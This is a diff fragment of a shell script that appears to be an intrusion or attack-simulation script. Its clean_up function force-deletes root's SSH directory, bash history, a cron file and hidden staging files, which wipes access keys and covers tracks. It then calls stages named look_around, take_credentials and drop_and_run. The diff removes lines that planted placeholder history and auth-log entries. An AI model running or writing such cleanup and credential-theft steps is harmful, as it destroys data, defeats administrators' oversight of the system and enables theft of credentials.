@@ -68,9 +68,6 @@ clean_up() {
     rm -rf /etc/cron.d/apt-daily /root/.ssh /usr/bin/.sysd /tmp/.cache /tmp/.s /tmp/.ready /dev/shm/.x /root/.bash_history
 }
 
-printf 'last command\n' >/root/.bash_history
-printf 'a login\n' >/var/log/auth.log
-mkdir -p /etc/cron.d
 look_around
 take_credentials
 drop_and_run
